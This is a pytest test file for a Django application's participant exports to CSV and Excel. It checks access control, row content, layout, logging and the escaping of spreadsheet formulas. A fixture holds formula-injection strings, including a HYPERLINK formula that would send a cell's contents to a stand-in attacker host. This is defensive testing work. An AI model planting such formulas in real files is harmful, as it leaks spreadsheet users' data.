"""The Secretariat's CSV and Excel exports of a meeting's participants: who gets them, one row
per participant as the database holds them, and cells that cannot run as formulas."""

import csv
import datetime
import io
import logging
import zipfile

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.models import OrganizationKind
from meetings.models import MeetingStatus, Role
from participants.exports import neutralized
from participants.models import NominationStatus
from tests.factories import (
    AgendaItemFactory,
    AppearanceFactory,
    HonorificFactory,
    NominationFactory,
    OrganizationFactory,
    PersonFactory,
)

pytestmark = pytest.mark.django_db

HEADERS = [
    "Group",
    "Organization",
    "Organization kind",
    "Country",
    "Status",
    "Roles in the programme",
    "Badge",
    "Honorific",
    "Given name(s)",
    "Family name",
    "Position or title",
    "Head of delegation",
    "On the public list",
    "E-mail address",
    "Phone",
    "Special requirements",
    "Nominated on",
    "Decided on",
]


def csv_url(meeting):
    return reverse("participants:export_csv", args=[meeting.slug])


def xlsx_url(meeting):
    return reverse("participants:export_xlsx", args=[meeting.slug])


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def xlsx_rows(content: bytes) -> list[list]:
    return [list(row) for row in xlsx_sheet(content).iter_rows(values_only=True)]


@pytest.fixture
def delegation(meeting, registration, organization, honorific):
    """IOM's accepted delegates, one of them in the programme too, and a speaker of no
    nomination; nominations in every other status, and one of another meeting."""
    head = NominationFactory(
        meeting=meeting,
        organization=organization,
        honorific=honorific,
        given_name="María José",
        family_name="López Peña",
        position="Senior Migration Policy Officer",
        email="mj.lopez@iom.example",
        phone="+41227179111",
        requirements="Wheelchair access",
        head_of_delegation=True,
    )
    head.decided_at = timezone.now()
    head.save()
    quiet = NominationFactory(
        meeting=meeting,
        organization=organization,
        given_name="Jiří",
        family_name="Novák",
        listed=False,
        requirements="",
    )
    AppearanceFactory(
        agenda_item=AgendaItemFactory(meeting=meeting), person=quiet.person, role=Role.MODERATOR
    )
    for status in ("pending", "waitlisted", "declined", "withdrawn"):
        NominationFactory(meeting=meeting, organization=organization, status=status)
    NominationFactory(organization=organization, family_name="Elsewhere")
    AppearanceFactory(
        agenda_item=AgendaItemFactory(meeting=meeting),
        role=Role.SPEAKER,
        person=PersonFactory(
            honorific=HonorificFactory(name="Amb."),
            given_name="Luis Alfonso",
            family_name="de Alba",
            position="Permanent Representative of Mexico to the United Nations",
            country="Mexico",
        ),
    )
    return {"head": head, "quiet": quiet}


def expected_rows(meeting):
    """The rows as read from the database, in the list's order: Mexico, then IOM."""
    from_db = list(
        meeting.nominations.filter(status=NominationStatus.ACCEPTED)
        .select_related("organization", "honorific")
        .order_by("-head_of_delegation", "family_name")
    )
    rows = [
        [
            "Member States",
            "",
            "",
            "Mexico",
            "In the programme",
            "Speaker",
            "Speaker",
            "Amb.",
            "Luis Alfonso",
            "de Alba",
            "Permanent Representative of Mexico to the United Nations",
            "No",
            "Yes",
            "",
            "",
            "",
            None,
            None,
        ]
    ]
    for nomination in from_db:
        programme = list(nomination.person.appearances.values_list("role", flat=True))
        rows.append(
            [
                "United Nations system: Related organizations",
                "International Organization for Migration (IOM)",
                str(OrganizationKind(nomination.organization.kind).label),
                nomination.organization.country,
                nomination.get_status_display(),
                ", ".join(str(Role(role).label) for role in programme),
                str(Role(programme[0]).label) if programme else "Participant",
                nomination.honorific.name if nomination.honorific else "",
                nomination.given_name,
                nomination.family_name,
                nomination.position,
                "Yes" if nomination.head_of_delegation else "No",
                "Yes" if nomination.listed or programme else "No",
                nomination.email,
                nomination.phone,
                nomination.requirements,
                nomination.created_at.astimezone(meeting.zone).date(),
                nomination.decided_at.astimezone(meeting.zone).date()
                if nomination.decided_at
                else None,
            ]
        )
    return rows


@pytest.mark.parametrize("url_of", [csv_url, xlsx_url])
class TestAccess:
    def test_anonymous_is_asked_to_log_in(self, client, meeting, delegation, url_of):
        response = client.get(url_of(meeting))
        assert response.status_code == 302
        assert response["Location"] == f"/accounts/login/?next={url_of(meeting)}"

    @pytest.mark.parametrize("who", ["focal_point", "other_focal_point", "other_staff"])
    def test_nobody_but_the_secretariat_gets_it(
        self, client, meeting, delegation, url_of, who, request
    ):
        client.force_login(request.getfixturevalue(who))
        response = client.get(url_of(meeting))
        assert response.status_code == 403
        assert b"mj.lopez@iom.example" not in response.content

    def test_the_secretariat_gets_it(self, client, meeting, delegation, url_of, staff):
        client.force_login(staff)
        response = client.get(url_of(meeting))
        assert response.status_code == 200
        assert response["Cache-Control"] == "private, no-store"

    def test_of_a_draft_meeting_too(self, client, meeting, delegation, url_of, staff):
        meeting.status = MeetingStatus.DRAFT
        meeting.save()
        client.force_login(staff)
        assert client.get(url_of(meeting)).status_code == 200

    def test_an_unknown_meeting_is_a_404(self, client, url_of, staff, meeting):
        client.force_login(staff)
        meeting.slug = "no-such-meeting"
        assert client.get(url_of(meeting)).status_code == 404

    def test_it_is_only_read(self, client, meeting, url_of, staff):
        client.force_login(staff)
        assert client.post(url_of(meeting)).status_code == 405


def test_csv_has_one_row_per_participant_as_the_database_holds_them(
    client, meeting, delegation, staff
):
    client.force_login(staff)
    response = client.get(csv_url(meeting))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="eleventh-participants.csv"'
    rows = csv_rows(response.content)
    expected = [
        [neutralized(value) if isinstance(value, str) else (value or "") for value in row]
        for row in expected_rows(meeting)
    ]
    expected = [
        [value.isoformat() if isinstance(value, datetime.date) else value for value in row]
        for row in expected
    ]
    assert rows[0] == HEADERS
    assert rows[1:] == expected
    assert len(rows[1:]) == 3  # de Alba, López Peña (head of delegation) and Novák
    assert rows[2][8:11] == ["María José", "López Peña", "Senior Migration Policy Officer"]


def test_xlsx_read_back_matches_the_database_row_by_row(client, meeting, delegation, staff):
    client.force_login(staff)
    response = client.get(xlsx_url(meeting))
    assert (
        response["Content-Type"]
        == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="eleventh-participants.xlsx"'
    rows = xlsx_rows(response.content)
    assert rows[0] == HEADERS
    expected = [
        [
            datetime.datetime.combine(value, datetime.time())
            if isinstance(value, datetime.date)
            else (value if value != "" else None)
            for value in row
        ]
        for row in expected_rows(meeting)
    ]
    assert rows[1:] == expected
    head = rows[2]
    assert head[13:16] == ["mj.lopez@iom.example", "+41227179111", "Wheelchair access"]


def test_xlsx_is_laid_out_for_a_person(client, meeting, delegation, staff):
    client.force_login(staff)
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(xlsx_url(meeting)).content))
    sheet = workbook.active
    assert sheet.title == "Participants"
    assert workbook.properties.title == "Eleventh Coordination Meeting"
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert not any(cell.font.bold for cell in sheet[2])
    widths = {letter: sheet.column_dimensions[letter].width for letter in ("A", "B", "P")}
    assert widths == {"A": 46, "B": 48, "P": 22}
    assert sheet.auto_filter.ref == f"A1:R{sheet.max_row}"
    dates = sheet.cell(row=3, column=17)
    assert dates.is_date
    assert dates.number_format == "yyyy-mm-dd"


@pytest.fixture
def mischief(meeting, registration, organization):
    """Text typed to run in the Secretariat's spreadsheet."""
    return NominationFactory(
        meeting=meeting,
        organization=organization,
        given_name="+SUM(1,2)",
        family_name='=HYPERLINK("http://evil.example/?d="&A2,"Click")',
        position="-2+3",
        email="x@example.org",
        phone="+41229171234",
        requirements="@SUM(A1:A9)\r\nand more",
    )


def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(
    client, meeting, mischief, staff
):
    client.force_login(staff)
    [_header, row] = csv_rows(client.get(csv_url(meeting)).content)
    assert row[8:11] == [
        "'+SUM(1,2)",
        '\'=HYPERLINK("http://evil.example/?d="&A2,"Click")',
        "'-2+3",
    ]
    assert row[15] == "'@SUM(A1:A9)\r\nand more"
    # The phone keeps its "+" behind the apostrophe: read as text, never as 41229171234.
    assert row[14] == "'+41229171234"
    assert row[13] == "x@example.org"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+41229171234", "'+41229171234"),
        ("-", "'-"),
        ("@cmd", "'@cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("María", "María"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_neutralized(value, expected):
    assert neutralized(value) == expected


def test_xlsx_cells_are_text_never_formulas(client, meeting, mischief, staff):
    client.force_login(staff)
    content = client.get(xlsx_url(meeting)).content
    sheet = xlsx_sheet(content)
    cells = {cell.column_letter: cell for cell in sheet[2]}
    assert cells["J"].value == '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
    for letter, value in [
        ("I", "+SUM(1,2)"),
        ("J", '=HYPERLINK("http://evil.example/?d="&A2,"Click")'),
        ("K", "-2+3"),
        ("O", "+41229171234"),  # the phone reads exactly as stored
        ("P", "@SUM(A1:A9)\r\nand more"),
    ]:
        cell = cells[letter]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
    assert (cells["N"].value, cells["N"].quotePrefix) == ("x@example.org", False)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_xlsx_drops_control_characters_it_cannot_hold(client, meeting, organization, staff):
    NominationFactory(meeting=meeting, organization=organization, requirements="Bell\x07 here")
    client.force_login(staff)
    rows = xlsx_rows(client.get(xlsx_url(meeting)).content)
    assert rows[1][15] == "Bell here"


def test_an_empty_meeting_exports_the_header_only(client, meeting, staff):
    client.force_login(staff)
    assert csv_rows(client.get(csv_url(meeting)).content) == [HEADERS]
    assert xlsx_rows(client.get(xlsx_url(meeting)).content) == [HEADERS]


def test_each_export_is_on_the_security_log(client, meeting, delegation, staff, caplog):
    client.force_login(staff)
    caplog.clear()
    with caplog.at_level(logging.INFO, logger="plenary.security"):
        client.get(csv_url(meeting))
        client.get(xlsx_url(meeting))
    logged = [record.getMessage() for record in caplog.records if record.name == "plenary.security"]
    assert logged == [
        "participants file meeting=eleventh file=csv rows=3 user=secretariat@un.example",
        "participants file meeting=eleventh file=xlsx rows=3 user=secretariat@un.example",
    ]


def many(meeting, count):
    organizations = [
        OrganizationFactory(kind=kind) for kind in ("government", "un_fund", "igo", "academic")
    ]
    for index in range(count):
        NominationFactory(meeting=meeting, organization=organizations[index % 4])
        if index % 10 == 0:
            AppearanceFactory(agenda_item=AgendaItemFactory(meeting=meeting))


@pytest.mark.parametrize("url_of", [csv_url, xlsx_url])
def test_the_exports_queries_do_not_grow_with_the_participants(
    client, meeting, registration, staff, url_of
):
    client.force_login(staff)
    counts = []
    for size in (10, 490):
        many(meeting, size)
        with CaptureQueriesContext(connection) as context:
            response = client.get(url_of(meeting))
        assert response.status_code == 200
        counts.append(len(context.captured_queries))
    rows = (csv_rows if url_of is csv_url else xlsx_rows)(response.content)
    assert len(rows) == 1 + 500 + 50
    assert counts[0] == counts[1]
